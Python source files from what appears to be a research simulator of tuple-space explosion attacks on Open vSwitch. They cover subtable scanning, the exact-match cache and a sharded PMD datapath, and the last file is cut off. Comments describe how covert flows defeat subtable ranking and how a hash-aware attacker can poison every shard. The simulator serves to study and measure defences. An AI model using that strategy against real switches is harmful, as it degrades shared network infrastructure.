    def remove(self, masked_values: tuple[int, ...]) -> None:
        """Remove an entry; stage indexes are rebuilt lazily on next use.

        Removal only marks the index dirty (a stale partial key can at
        worst cost a few extra probes), so bulk evictions — revalidator
        sweeps, tenant quarantine — never pay the O(entries × stages)
        rebuild per entry; the next staged lookup rebuilds once.
        """
        del self.entries[masked_values]
        if self._space is not None:
            del self.entries_packed[self._space.pack(masked_values)]
        if self._stage_index is not None:
            self._stage_dirty = True

    def _rebuild_stage_index(self) -> None:
        assert self._stage_index is not None and self._stage_plan is not None
        for stage, indices in enumerate(self._stage_plan):
            self._stage_index[stage] = {
                tuple(masked[i] for i in indices) for masked in self.entries
            }
        self._stage_dirty = False

    def lookup_staged(self, masked_values: tuple[int, ...]) -> tuple[object | None, int]:
        """Staged probe: returns ``(entry, probes_used)``; aborts at the
        first stage whose partial key has no entries."""
        if self._stage_index is None or self._stage_plan is None:
            entry = self.entries.get(masked_values)
            return entry, 1
        if self._stage_dirty:
            self._rebuild_stage_index()
        probes = 0
        for stage, indices in enumerate(self._stage_plan):
            probes += 1
            partial = tuple(masked_values[i] for i in indices)
            if partial not in self._stage_index[stage]:
                return None, probes
        return self.entries.get(masked_values), probes

    def check_packed_consistency(self) -> bool:
        """True when the int-keyed mirror agrees with the tuple dict
        entry for entry (the packed path's checked-reference invariant)."""
        if self._space is None:
            return not self.entries_packed
        if len(self.entries) != len(self.entries_packed):
            return False
        return all(
            self.entries_packed.get(self._space.pack(masked)) is entry
            for masked, entry in self.entries.items()
        )

    def __len__(self) -> int:
        return len(self.entries)

    def __repr__(self) -> str:
        return f"Subtable(mask={self.masks}, {len(self.entries)} entries, {self.hits} hits)"


class TupleSpaceSearch:
    """The sequential-scan tuple space.

    ``scan_order`` controls how subtables are visited:

    * ``"insertion"`` (default) — the order masks were first created,
      matching the kernel datapath's mask array;
    * ``"hits"`` — most-hit subtables first, re-sorted on *every* scan
      (a deliberately naive reference ordering kept for comparison);
    * ``"ranked"`` — OVS's netdev-datapath subtable ranking: a cached
      pvector-style list re-sorted by recent hit count only when
      :meth:`resort` runs (the revalidator sweep calls it) or every
      ``resort_interval`` lookups.  Between re-sorts the scan pays no
      ordering cost at all.

    ``key_mode`` selects the hash-key representation scanned:

    * ``"packed"`` (default) — one integer per key/mask, masked with a
      single ``&`` per subtable;
    * ``"tuple"`` — the per-field tuple reference path.

    Both modes visit the same subtables in the same order and probe one
    hash table per subtable, so ``tuples_scanned`` / ``hash_probes``
    accounting is identical; only the constant factor differs.
    """

    #: the subtable class — subclasses override it to attach per-subtable
    #: acceleration state (the vec engine's columnar mirrors)
    subtable_cls: type[Subtable] = Subtable

    def __init__(
        self,
        space: FieldSpace,
        staged: bool = False,
        scan_order: str = "insertion",
        key_mode: str = "packed",
        resort_interval: int = 0,
    ) -> None:
        if scan_order not in SCAN_ORDERS:
            raise ValueError(
                f"unknown scan_order {scan_order!r}; valid: {SCAN_ORDERS}"
            )
        if key_mode not in KEY_MODES:
            raise ValueError(f"unknown key_mode {key_mode!r}; valid: {KEY_MODES}")
        if resort_interval < 0:
            raise ValueError("resort_interval must be >= 0")
        self.space = space
        self.staged = staged
        self.scan_order = scan_order
        self.key_mode = key_mode
        #: lookups between automatic ranked re-sorts (0 = only explicit
        #: / revalidator-driven re-sorts)
        self.resort_interval = resort_interval
        self._subtables: dict[tuple[int, ...], Subtable] = {}
        # the pvector: ranked scan order, compacted lazily after removals
        self._scan_list: list[Subtable] = []
        self._scan_dead = 0
        self._lookups_since_resort = 0
        self.resorts = 0
        self._next_seq = 0
        self._stage_plan = self._build_stage_plan() if staged else None
        # lookup statistics (cumulative)
        self.total_lookups = 0
        self.total_tuples_scanned = 0
        self.total_hash_probes = 0

    def _build_stage_plan(self) -> tuple[tuple[int, ...], ...]:
        """Map DEFAULT_STAGES onto this field space (skipping stages with
        no fields present)."""
        plan: list[tuple[int, ...]] = []
        covered: set[int] = set()
        for stage_fields in DEFAULT_STAGES:
            indices = tuple(
                self.space.index_of(name) for name in stage_fields if name in self.space
            )
            if indices:
                plan.append(indices)
                covered.update(indices)
        leftovers = tuple(i for i in range(len(self.space)) if i not in covered)
        if leftovers:
            plan.append(leftovers)
        return tuple(plan)

    # -- structure ---------------------------------------------------------

    @property
    def mask_count(self) -> int:
        """Number of distinct masks — the attack's blow-up target and the
        quantity on Fig. 3's right axis."""
        return len(self._subtables)

    @property
    def entry_count(self) -> int:
        """Total megaflow entries across all subtables."""
        return sum(len(subtable) for subtable in self._subtables.values())

    def _ranked_tables(self) -> list[Subtable]:
        """The ranked scan list, compacted if subtables died since."""
        if self._scan_dead:
            self._scan_list = [s for s in self._scan_list if not s.dead]
            self._scan_dead = 0
        return self._scan_list

    def subtables(self) -> list[Subtable]:
        """Subtables in the current scan order."""
        if self.scan_order == "ranked":
            return list(self._ranked_tables())
        tables = list(self._subtables.values())
        if self.scan_order == "hits":
            tables.sort(key=lambda s: (-s.hits, s.created_seq))
        return tables

    def find_subtable(self, masks: tuple[int, ...]) -> Subtable | None:
        """The subtable for a mask, or ``None`` when absent."""
        return self._subtables.get(masks)

    def get_or_create_subtable(self, masks: tuple[int, ...]) -> Subtable:
        """The subtable for a mask, creating it on first use."""
        subtable = self._subtables.get(masks)
        if subtable is None:
            # staged lookups never probe the packed mirror, so don't
            # maintain one (it would double per-entry memory for nothing)
            packed = self.key_mode == "packed" and not self.staged
            subtable = self.subtable_cls(
                masks,
                self._next_seq,
                self._stage_plan,
                space=self.space if packed else None,
            )
            self._next_seq += 1
            self._subtables[masks] = subtable
            if self.scan_order == "ranked":
                # new subtables join the back of the pvector (no hits yet)
                self._scan_list.append(subtable)
        return subtable

    def insert(self, masks: tuple[int, ...], masked_values: tuple[int, ...],
               entry: object) -> None:
        """Insert an entry under its mask's subtable."""
        self.get_or_create_subtable(masks).insert(masked_values, entry)

    def remove(self, masks: tuple[int, ...], masked_values: tuple[int, ...]) -> None:
        """Remove an entry; empty subtables disappear (as OVS destroys
        empty subtables, shrinking the scan)."""
        subtable = self._subtables.get(masks)
        if subtable is None:
            raise KeyError(f"no subtable for mask {masks}")
        subtable.remove(masked_values)
        if not subtable.entries:
            del self._subtables[masks]
            if self.scan_order == "ranked":
                # lazy compaction: bulk evictions mark dead subtables and
                # pay one O(n) filter on the next ranked access, not O(n)
                # list removal each
                subtable.dead = True
                self._scan_dead += 1

    def clear(self) -> None:
        """Drop every subtable."""
        self._subtables.clear()
        self._scan_list.clear()
        self._scan_dead = 0

    # -- ranking -----------------------------------------------------------

    def resort(self) -> None:
        """Re-rank the subtable pvector by recent hit count (no-op for
        other scan orders).

        Mirrors OVS's periodic dpcls subtable re-sort: the list is
        ordered by ``rank_hits`` (ties broken by age), then the counters
        are halved so ranking tracks recent hit *rate* rather than
        all-time totals — a stale once-hot subtable decays to the back.
        The halving is floating-point on purpose: a subtable refreshed
        roughly once per window (each of the covert stream's thousands)
        must keep its steady-state ~1 weight rather than quantise to
        zero, or the rank distribution would forget exactly the uniform
        spread the attack relies on.
        """
        if self.scan_order != "ranked":
            return
        tables = self._ranked_tables()
        tables.sort(key=lambda s: (-s.rank_hits, s.created_seq))
        for subtable in tables:
            subtable.rank_hits /= 2.0
        self._lookups_since_resort = 0
        self.resorts += 1

    def expected_scan_depth(self) -> float:
        """Expected subtables visited per *hit* if hits keep their
        current distribution, under the current scan order.

        Hit-count weighted mean position: uniform hits over ``n``
        subtables give ``(n+1)/2`` regardless of order (why ranking does
        not blunt the attack — the covert stream's hits are uniform by
        construction), while a heavy-tailed distribution under
        ``"ranked"`` collapses toward the front of the list.

        Ranked mode weights by the same exponentially-decayed
        ``rank_hits`` the ordering itself uses, so the estimate tracks
        the *recent* hit rate — all-time totals would let long-stale
        history dominate after a traffic shift and report a depth the
        actual scan no longer pays.
        """
        tables = self.subtables()
        n = len(tables)
        if n == 0:
            return 0.0
        ranked = self.scan_order == "ranked"
        weights = [
            subtable.rank_hits if ranked else subtable.hits
            for subtable in tables
        ]
        total = sum(weights)
        if total == 0:
            return (n + 1.0) / 2.0
        return (
            sum(position * weight
                for position, weight in enumerate(weights, start=1))
            / total
        )

    # -- lookup ------------------------------------------------------------

    def lookup(self, key: FlowKey) -> TssLookupResult:
        """Sequentially scan subtables for the first matching entry.

        OVS guarantees megaflows are non-overlapping, so "first match"
        and "only match" coincide; the scan order merely affects cost.
        """
        if self.scan_order == "ranked":
            tables = self._ranked_tables()
        elif self.scan_order == "hits":
            tables = self.subtables()
        else:
            tables = self._subtables.values()
        tuples_scanned = 0
        hash_probes = 0
        if self.staged or self.key_mode == "tuple":
            key_values = key.values
            for subtable in tables:
                tuples_scanned += 1
                masked = subtable.mask_key(key_values)
                if self.staged:
                    entry, probes = subtable.lookup_staged(masked)
                    hash_probes += probes
                else:
                    entry = subtable.entries.get(masked)
                    hash_probes += 1
                if entry is not None:
                    subtable.credit_hit()
                    self._account(tuples_scanned, hash_probes)
                    return TssLookupResult(entry, tuples_scanned, hash_probes)
        else:
            packed = key.packed
            for subtable in tables:
                tuples_scanned += 1
                hash_probes += 1
                entry = subtable.entries_packed.get(packed & subtable.packed_mask)
                if entry is not None:
                    subtable.credit_hit()
                    self._account(tuples_scanned, hash_probes)
                    return TssLookupResult(entry, tuples_scanned, hash_probes)
        self._account(tuples_scanned, hash_probes)
        return TssLookupResult(None, tuples_scanned, hash_probes)

    def lookup_batch(self, keys: Sequence[FlowKey]) -> list[TssLookupResult]:
        """Scan a burst of keys, walking the subtable list **once** for
        the whole burst (subtable-major: each subtable's hash table and
        packed mask are fetched once and probed for every still-pending
        key) instead of once per key.

        Returns results for a **prefix** of ``keys``: every leading hit,
        plus the first miss when one occurs.  A miss ends the prefix
        because the caller's upcall will mutate the tuple space (a new
        subtable, a changed scan list), so keys after it must be
        re-scanned against the post-upcall state — resubmit the
        remainder after handling the miss.  Within the prefix the call
        is *exactly* equivalent to per-key :meth:`lookup`: same entries,
        same ``tuples_scanned``/``hash_probes``, same hit crediting and
        accounting (applied in key order), and ranked auto-re-sorts fire
        on the same lookup they would sequentially (the burst is capped
        at the next ``resort_interval`` boundary).
        """
        if not keys:
            return []
        if self.staged or self.scan_order == "hits":
            # these paths mutate per lookup (stage indexes rebuild, the
            # "hits" order re-sorts every scan): fall back to per-key
            # lookups, honouring the prefix contract
            results: list[TssLookupResult] = []
            for key in keys:
                result = self.lookup(key)
                results.append(result)
                if not result.hit:
                    break
            return results
        limit = len(keys)
        if self.scan_order == "ranked":
            tables = self._ranked_tables()
            if self.resort_interval:
                # stop exactly where a sequential scan would re-sort, so
                # every key in the burst sees the same frozen pvector a
                # per-key caller would have seen
                limit = min(
                    limit, self.resort_interval - self._lookups_since_resort
                )
        else:
            tables = list(self._subtables.values())
        n_tables = len(tables)
        pending = list(range(limit))
        # per key: (entry, subtable, depth) once resolved
        resolved: list[tuple[object, Subtable, int] | None] = [None] * limit
        if self.key_mode == "packed":
            packed = [keys[i].packed for i in range(limit)]
            for depth, subtable in enumerate(tables, start=1):
                if not pending:
                    break
                entries = subtable.entries_packed
                mask = subtable.packed_mask
                still: list[int] = []
                for i in pending:
                    entry = entries.get(packed[i] & mask)
                    if entry is None:
                        still.append(i)
                    else:
                        resolved[i] = (entry, subtable, depth)
                pending = still
        else:
            values = [keys[i].values for i in range(limit)]
            for depth, subtable in enumerate(tables, start=1):
                if not pending:
                    break
                entries = subtable.entries
                masks = subtable.masks
                still = []
                for i in pending:
                    masked = tuple(v & m for v, m in zip(values[i], masks))
                    entry = entries.get(masked)
                    if entry is None:
                        still.append(i)
                    else:
                        resolved[i] = (entry, subtable, depth)
                pending = still
        # consume the leading hits (and the first miss); crediting and
        # accounting happen here, in key order, exactly as per-key
        # lookups would have applied them
        results = []
        for i in range(limit):
            hit = resolved[i]
            if hit is None:
                self._account(n_tables, n_tables)
                results.append(TssLookupResult(None, n_tables, n_tables))
                break
            entry, subtable, depth = hit
            subtable.credit_hit()
            self._account(depth, depth)
            results.append(TssLookupResult(entry, depth, depth))
        return results

    def _account(self, tuples_scanned: int, hash_probes: int) -> None:
        self.total_lookups += 1
        self.total_tuples_scanned += tuples_scanned
        self.total_hash_probes += hash_probes
        if self.scan_order == "ranked" and self.resort_interval:
            self._lookups_since_resort += 1
            if self._lookups_since_resort >= self.resort_interval:
                self.resort()

    def iter_entries(self) -> Iterator[tuple[tuple[int, ...], tuple[int, ...], object]]:
        """Iterate ``(masks, masked_values, entry)`` over the whole space."""
        for masks, subtable in self._subtables.items():
            for masked_values, entry in subtable.entries.items():
                yield masks, masked_values, entry

    def remove_if(self, predicate: Callable[[object], bool]) -> int:
        """Remove entries matching a predicate; returns the count."""
        doomed: list[tuple[tuple[int, ...], tuple[int, ...]]] = []
        for masks, masked_values, entry in self.iter_entries():
            if predicate(entry):
                doomed.append((masks, masked_values))
        for masks, masked_values in doomed:
            self.remove(masks, masked_values)
        return len(doomed)

    def __repr__(self) -> str:
        return (
            f"TupleSpaceSearch({self.mask_count} masks, {self.entry_count} entries, "
            f"staged={self.staged}, scan_order={self.scan_order!r}, "
            f"key_mode={self.key_mode!r})"
        )
