"""The microflow cache (EMC): the exact-match first level of the fast path.

"The fast path comprises two layers of flow caches: the microflow cache
implements an exact-match store over all header fields" — the paper,
Section 2.

Modelled after the netdev datapath's Exact Match Cache: a fixed number
of entries organised as ``n_sets`` sets of ``ways`` slots, indexed by a
hash of the full flow key, with optional probabilistic insertion (real
OVS inserts with probability 1/100 by default to resist exactly the kind
of thrashing this attack performs — the simulator exposes the knob so
the ablation can quantify how little it helps against 8k covert flows).

Entries reference :class:`~repro.ovs.megaflow.MegaflowEntry` objects and
are lazily invalidated when the referenced megaflow dies.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.flow.key import FlowKey
from repro.ovs.megaflow import MegaflowEntry
from repro.util.rng import DeterministicRng

#: netdev datapath default EMC size
DEFAULT_ENTRIES = 8192
DEFAULT_WAYS = 2


@dataclass
class _Slot:
    key: FlowKey
    entry: MegaflowEntry
    last_used: float


class MicroflowCache:
    """A set-associative exact-match cache over full flow keys."""

    def __init__(
        self,
        entries: int = DEFAULT_ENTRIES,
        ways: int = DEFAULT_WAYS,
        insertion_prob: float = 1.0,
        rng: DeterministicRng | None = None,
    ) -> None:
        if entries <= 0 or ways <= 0:
            raise ValueError("entries and ways must be positive")
        if entries % ways:
            raise ValueError(f"entries ({entries}) must be divisible by ways ({ways})")
        if not 0.0 <= insertion_prob <= 1.0:
            raise ValueError("insertion_prob must be within [0, 1]")
        self.capacity = entries
        self.ways = ways
        self.n_sets = entries // ways
        self.insertion_prob = insertion_prob
        self.rng = rng or DeterministicRng(0)
        self._sets: list[list[_Slot]] = [[] for _ in range(self.n_sets)]
        # statistics
        self.lookups = 0
        self.hits = 0
        self.insertions = 0
        self.evictions = 0
        self.stale_hits = 0

    def _set_index(self, key: FlowKey) -> int:
        # FlowKey.__hash__ folds only int field values (a tuple of
        # ints), which CPython hashes without per-process salting, so
        # set placement is deterministic across runs
        return hash(key) % self.n_sets  # repro-lint: disable=determinism-hash

    def contains(self, key: FlowKey) -> bool:
        """Whether *any* slot (live or stale) currently stores ``key``.

        Unlike :meth:`lookup` this never mutates — no counters, no LRU
        touch, no stale purge.  The batch pipeline uses it to decide
        whether a key's EMC outcome could depend on inserts still
        pending for earlier packets of the same burst: when no slot
        matches at all, later inserts (for *other* keys) cannot turn
        this key's miss into a hit, so its lookup commutes with them.
        """
        return any(
            slot.key == key for slot in self._sets[self._set_index(key)]
        )

    def lookup(self, key: FlowKey, now: float = 0.0) -> MegaflowEntry | None:
        """Exact-match probe; stale entries (dead megaflows) are purged
        on contact and reported as misses."""
        self.lookups += 1
        bucket = self._sets[self._set_index(key)]
        for i, slot in enumerate(bucket):
            if slot.key == key:
                if not slot.entry.alive:
                    del bucket[i]
                    self.stale_hits += 1
                    return None
                slot.last_used = now
                self.hits += 1
                return slot.entry
        return None

    def insert(self, key: FlowKey, entry: MegaflowEntry, now: float = 0.0) -> bool:
        """Admit a key (subject to probabilistic insertion); evicts the
        least-recently-used slot of a full set.  Returns True when the
        entry was actually stored."""
        if self.insertion_prob < 1.0:
            # prob 0.0 means "EMC insertion disabled" (the documented
            # operator mitigation): no draw can ever admit, so skip the
            # RNG entirely — nothing else consumes this fork
            if self.insertion_prob <= 0.0 or self.rng.random() >= self.insertion_prob:
                return False
        bucket = self._sets[self._set_index(key)]
        for slot in bucket:
            if slot.key == key:
                slot.entry = entry
                slot.last_used = now
                return True
        if len(bucket) >= self.ways:
            victim = min(range(len(bucket)), key=lambda i: bucket[i].last_used)
            del bucket[victim]
            self.evictions += 1
        bucket.append(_Slot(key, entry, now))
        self.insertions += 1
        return True

    def invalidate_dead(self) -> int:
        """Sweep out entries whose megaflow has died; returns the count."""
        removed = 0
        for bucket in self._sets:
            keep = [slot for slot in bucket if slot.entry.alive]
            removed += len(bucket) - len(keep)
            bucket[:] = keep
        return removed

    def flush(self) -> None:
        """Empty the cache."""
        for bucket in self._sets:
            bucket.clear()

    @property
    def occupancy(self) -> int:
        """Number of stored entries."""
        return sum(len(bucket) for bucket in self._sets)

    @property
    def hit_rate(self) -> float:
        """Lifetime hit rate (0 when never used)."""
        return self.hits / self.lookups if self.lookups else 0.0

    def __repr__(self) -> str:
        return (
            f"MicroflowCache({self.occupancy}/{self.capacity} entries, "
            f"{self.ways}-way, hit_rate={self.hit_rate:.2%})"
        )
