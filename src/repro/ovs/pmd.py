"""The sharded multi-PMD datapath: one classifier shard per core.

Real OVS deployments run one PMD (poll-mode-driver) thread per
forwarding core; each PMD owns its *own* dpcls — its own subtable
pvector, megaflow cache, EMC and ranking state — and packets are
distributed across PMDs by the NIC's RSS hash over the 5-tuple.  The
paper's measurements degrade a single datapath thread; whether the
tuple-space explosion stays confined to the cores the covert flows
hash to, or poisons every shard, is a question about *this* structure.

:class:`ShardedDatapath` models it: N independent
:class:`~repro.ovs.switch.OvsSwitch` shards behind an RSS-style
dispatcher.  Packets are dispatched by a deterministic hash of the
packed 5-tuple, slow-path rule management is broadcast to every shard
(every PMD consults the same OpenFlow tables), and the observables are
aggregated — ``mask_count`` reports the *max per shard* (the scan
bound a packet actually meets), ``total_mask_count`` the sum, and
``stats`` a :meth:`~repro.ovs.stats.SwitchStats.merge` of the shards.

Attack-relevant consequence: a covert flow only pollutes the shard it
hashes to.  A naive attacker's masks land wherever RSS scatters them
(≈ total/N per shard — the damage is *diluted* by sharding), while a
hash-aware attacker crafts, per mask, one packet variant per shard by
varying the bits the megaflow wildcards anyway
(:meth:`~repro.attack.packets.CovertStreamGenerator.spread_keys`) and
poisons every PMD to the full mask count — at N× the (still tiny)
covert bandwidth.  Experiment E9 and ``benchmarks/bench_sharded.py``
measure both.

A one-shard datapath is **observationally identical** to a bare
:class:`OvsSwitch` (same seeds, same clocks, same stats — equivalence
is tested), so ``shards`` is a pure scale axis.
"""

from __future__ import annotations

from typing import Callable, Iterable, Sequence

from repro.flow.fields import FieldSpace
from repro.flow.key import FlowKey
from repro.flow.rule import FlowRule
from repro.ovs.megaflow import MegaflowEntry
from repro.ovs.stats import SwitchStats
from repro.ovs.switch import BatchResult, OvsSwitch, PacketResult
from repro.ovs.upcall import InstallGuard

_MASK64 = (1 << 64) - 1

#: the fields RSS hashes, when present in the space (the classic NIC
#: 5-tuple; fields outside it — MACs, ports-of-entry — don't steer)
RSS_FIELDS = ("ip_src", "ip_dst", "ip_proto", "tp_src", "tp_dst")


def rss_hash(value: int) -> int:
    """A deterministic 64-bit mix of an arbitrary-width packed value.

    Stands in for the NIC's Toeplitz hash: stable across processes (no
    salted ``hash()``), sensitive to every input bit, cheap.  Wide
    packed values are folded 64 bits at a time through a splitmix-style
    round.
    """
    mixed = 0x9E3779B97F4A7C15
    while True:
        mixed = ((mixed ^ (value & _MASK64)) * 0xBF58476D1CE4E5B9) & _MASK64
        mixed ^= mixed >> 31
        value >>= 64
        if not value:
            return mixed


def shard_views(datapath) -> list:
    """A datapath's per-PMD shard views: its ``shards`` list when
    sharded, else the datapath itself as its own single shard.

    The one place the "iterate shards, or treat the whole datapath as
    one" idiom lives — the simulator, defenses and report helpers all
    route through it.
    """
    shards = getattr(datapath, "shards", None)
    return list(shards) if shards else [datapath]


def shard_seed(seed: int, shard: int) -> int:
    """Derive shard ``shard``'s RNG seed from the base (spec) seed.

    Deterministic arithmetic — never ``hash()`` — so scenario runs
    reproduce bit-for-bit across processes regardless of shard count,
    and every shard gets an independent stream.  Shard 0 keeps the base
    seed unchanged, which is what makes a one-shard datapath's RNG
    (hence EMC behaviour) identical to an unsharded switch built with
    the same seed.
    """
    return (seed + shard * 0x9E3779B97F4A7C15) & 0x7FFF_FFFF_FFFF_FFFF


class ShardedDatapath:
    """N per-PMD :class:`OvsSwitch` shards behind an RSS dispatcher.

    ``shard_factory(i)`` builds shard ``i``'s switch — callers derive
    per-shard seeds via :func:`shard_seed` (the registry backend does).
    Rule management (:meth:`add_rule` / :meth:`add_rules` /
    :meth:`remove_tenant_rules` / :meth:`invalidate_caches`) and defense
    guards broadcast to every shard; guard *objects* are shared, so
    per-cache limits (e.g. the mask budget) apply per shard while the
    guard's own counters aggregate across them.
    """

    has_flow_cache = True

    def __init__(
        self,
        space: FieldSpace,
        shard_factory: Callable[[int], OvsSwitch],
        shards: int = 1,
        name: str = "pmd",
        rss_fields: Sequence[str] | None = None,
    ) -> None:
        if shards < 1:
            raise ValueError(f"need at least one shard, got {shards}")
        self.name = name
        self.space = space
        self.shards: list[OvsSwitch] = [shard_factory(i) for i in range(shards)]
        fields = tuple(
            f for f in (rss_fields or RSS_FIELDS) if f in space
        )
        # the RSS hash input: mask the packed key down to the steering
        # fields with one precomputed AND (zero per-field work per packet)
        self._rss_mask = space.pack(
            tuple(
                spec.max_value if spec.name in fields else 0
                for spec in space.specs
            )
        ) if fields else 0
        self.rss_fields = fields

    # -- dispatch ----------------------------------------------------------

    def shard_of(self, key: FlowKey) -> int:
        """The shard index ``key``'s packets are steered to."""
        if len(self.shards) == 1:
            return 0
        return rss_hash(key.packed & self._rss_mask) % len(self.shards)

    def shard_for(self, key: FlowKey) -> OvsSwitch:
        """The shard switch serving ``key`` (the simulator's per-flow
        cost view)."""
        return self.shards[self.shard_of(key)]

    # -- datapath ----------------------------------------------------------

    def process(self, key_or_packet, in_port: int = 0,
                now: float | None = None) -> PacketResult:
        """Single-key special case of :meth:`process_batch`."""
        if not isinstance(key_or_packet, FlowKey):
            from repro.flow.extract import flow_key_from_packet

            key_or_packet = flow_key_from_packet(
                key_or_packet, in_port=in_port, space=self.space
            )
        return self.shard_for(key_or_packet).process(key_or_packet, now=now)

    def process_batch(self, keys: Sequence[FlowKey] | Iterable[FlowKey],
                      now: float | None = None) -> BatchResult:
        """Dispatch a burst: bucket keys by RSS shard (keeping each
        shard's sub-burst in arrival order, as a NIC queue would), run
        one :meth:`OvsSwitch.process_batch` per shard, and reassemble
        results in input order.  Shards share no state, so this is
        exactly equivalent to per-key dispatch."""
        shards = self.shards
        if len(shards) == 1:
            return shards[0].process_batch(keys, now=now)
        keys = list(keys)
        buckets: dict[int, list[int]] = {}
        for position, key in enumerate(keys):
            buckets.setdefault(self.shard_of(key), []).append(position)
        slots: list[PacketResult | None] = [None] * len(keys)
        for shard, positions in buckets.items():
            sub = shards[shard].process_batch(
                [keys[p] for p in positions], now=now
            )
            for position, result in zip(positions, sub.results):
                slots[position] = result
        batch = BatchResult()
        for result in slots:
            assert result is not None
            batch.add(result)
        return batch

    def handle_miss(self, key: FlowKey, now: float = 0.0) -> MegaflowEntry | None:
        return self.shard_for(key).handle_miss(key, now)

    def advance_clock(self, now: float) -> None:
        for shard in self.shards:
            shard.advance_clock(now)

    # -- slow-path rule management (broadcast) ------------------------------

    def add_rule(self, rule: FlowRule) -> FlowRule:
        added = rule
        for shard in self.shards:
            added = shard.add_rule(rule)
        return added

    def add_rules(self, rules: list[FlowRule]) -> None:
        for shard in self.shards:
            shard.add_rules(rules)

    def remove_tenant_rules(self, tenant: str) -> int:
        return max(shard.remove_tenant_rules(tenant) for shard in self.shards)

    def add_install_guard(self, guard: InstallGuard) -> None:
        for shard in self.shards:
            shard.add_install_guard(guard)

    def invalidate_caches(self) -> None:
        for shard in self.shards:
            shard.invalidate_caches()

    # -- aggregated observables ---------------------------------------------

    @property
    def stats(self) -> SwitchStats:
        """Merged per-shard counters (a fresh snapshot each access)."""
        return SwitchStats.merge(*(shard.stats for shard in self.shards))

    @property
    def shard_mask_counts(self) -> list[int]:
        """Distinct megaflow masks per shard, in shard order."""
        return [shard.mask_count for shard in self.shards]

    @property
    def mask_count(self) -> int:
        """The worst per-shard mask count — the scan bound a packet on
        the most-poisoned PMD actually meets (Fig. 3's right axis reads
        this for the sharded backend)."""
        return max(self.shard_mask_counts)

    @property
    def total_mask_count(self) -> int:
        """Masks summed over shards (each shard's subtables are its
        own; the same mask on two shards is two scan entries)."""
        return sum(self.shard_mask_counts)

    @property
    def megaflow_count(self) -> int:
        return sum(shard.megaflow_count for shard in self.shards)

    @property
    def cache_capacity(self) -> int:
        """Aggregate exact-match capacity (each PMD has its own EMC)."""
        return sum(shard.cache_capacity for shard in self.shards)

    @property
    def staged(self) -> bool:
        return self.shards[0].staged

    @property
    def scan_order(self) -> str:
        return self.shards[0].scan_order

    @property
    def key_mode(self) -> str:
        return self.shards[0].key_mode

    def expected_scan_depth(self) -> float:
        """Lookup-weighted mean of the per-shard expected scan depths
        (shards that serve more TSS lookups weigh more; with no history
        the shards average evenly)."""
        depths = [shard.expected_scan_depth() for shard in self.shards]
        weights = [shard.megaflow.tss.total_lookups for shard in self.shards]
        total = sum(weights)
        if not total:
            return sum(depths) / len(depths)
        return sum(d * w for d, w in zip(depths, weights)) / total

    @property
    def rule_count(self) -> int:
        return self.shards[0].rule_count  # broadcast: identical everywhere

    @property
    def idle_timeout(self) -> float:
        return self.shards[0].idle_timeout

    def __repr__(self) -> str:
        return (
            f"ShardedDatapath({self.name}: {len(self.shards)} shards, "
            f"masks/shard={self.shard_mask_counts}, "
            f"{self.megaflow_count} megaflows)"
        )
