"""The sharded multi-PMD datapath: one classifier shard per core.

Real OVS deployments run one PMD (poll-mode-driver) thread per
forwarding core; each PMD owns its *own* dpcls — its own subtable
pvector, megaflow cache, EMC and ranking state — and packets are
distributed across PMDs by the NIC's RSS hash over the 5-tuple.  The
paper's measurements degrade a single datapath thread; whether the
tuple-space explosion stays confined to the cores the covert flows
hash to, or poisons every shard, is a question about *this* structure.

:class:`ShardedDatapath` models it: N independent
:class:`~repro.ovs.switch.OvsSwitch` shards behind an RSS-style
dispatcher.  Packets are dispatched NIC-style through an **RSS
indirection table** (RETA): the deterministic hash of the packed
5-tuple selects one of ``reta_size`` buckets, and the table maps each
bucket to a PMD shard.  Slow-path rule management is broadcast to
every shard (every PMD consults the same OpenFlow tables), and the
observables are aggregated — ``mask_count`` reports the *max per
shard* (the scan bound a packet actually meets), ``total_mask_count``
the sum, and ``stats`` a :meth:`~repro.ovs.stats.SwitchStats.merge` of
the shards.

The RETA is what makes PMD load balancing possible: benign traffic is
heavy-tailed (elephant flows, skewed prefixes), so a static hash→shard
map leaves some PMDs overloaded while others idle.  The
:class:`PmdRebalancer` mirrors OVS's PMD auto-load-balancer: it
periodically reads per-bucket load (lookup- and scan-depth-weighted
cycles, accumulated by the dispatcher) and greedily remaps buckets
from the hottest PMD to the coolest.  With ``rebalance_interval=0``
(the default) the table never moves and dispatch is bit-identical to
the pre-RETA ``rss_hash(key) % shards`` arithmetic — ``reta_size`` is
rounded up to a multiple of the shard count precisely so the identity
table preserves that equivalence for every shard count.

Rebalancing doubles as a moving target against the hash-aware
``spread_keys`` attacker, whose variants are steered against a
*snapshot* of the dispatcher: every remap strands the carefully-placed
variants on wrong shards until the attacker re-probes.

Attack-relevant consequence: a covert flow only pollutes the shard it
hashes to.  A naive attacker's masks land wherever RSS scatters them
(≈ total/N per shard — the damage is *diluted* by sharding), while a
hash-aware attacker crafts, per mask, one packet variant per shard by
varying the bits the megaflow wildcards anyway
(:meth:`~repro.attack.packets.CovertStreamGenerator.spread_keys`) and
poisons every PMD to the full mask count — at N× the (still tiny)
covert bandwidth.  Experiment E9 and ``benchmarks/bench_sharded.py``
measure both.

A one-shard datapath is **observationally identical** to a bare
:class:`OvsSwitch` (same seeds, same clocks, same stats — equivalence
is tested), so ``shards`` is a pure scale axis.
"""

from __future__ import annotations

from typing import Callable, Iterable, Sequence

from repro.flow.fields import FieldSpace
from repro.flow.key import FlowKey
from repro.flow.rule import FlowRule
from repro.ovs.megaflow import MegaflowEntry
from repro.ovs.stats import SwitchStats
from repro.ovs.switch import BatchResult, OvsSwitch, PacketResult
from repro.ovs.upcall import InstallGuard
from repro.util.cadence import advance_if_due

_MASK64 = (1 << 64) - 1

#: the fields RSS hashes, when present in the space (the classic NIC
#: 5-tuple; fields outside it — MACs, ports-of-entry — don't steer)
RSS_FIELDS = ("ip_src", "ip_dst", "ip_proto", "tp_src", "tp_dst")

#: default RSS indirection-table size (NICs ship 64–512 bucket RETAs)
DEFAULT_RETA_SIZE = 128


def effective_reta_size(requested: int, shards: int) -> int:
    """Round a requested RETA size up to a multiple of the shard count.

    With ``shards | reta_size`` the identity table (bucket ``b`` →
    shard ``b % shards``) dispatches *exactly* like the pre-RETA
    ``rss_hash(key) % shards`` arithmetic — ``(h mod R) mod s ==
    h mod s`` whenever ``s`` divides ``R`` — which is the hard
    equivalence contract of the disabled-rebalance configuration.
    """
    if requested < 1:
        raise ValueError(f"reta_size must be >= 1, got {requested}")
    size = max(requested, shards)
    remainder = size % shards
    return size if remainder == 0 else size + (shards - remainder)


def rss_hash(value: int) -> int:
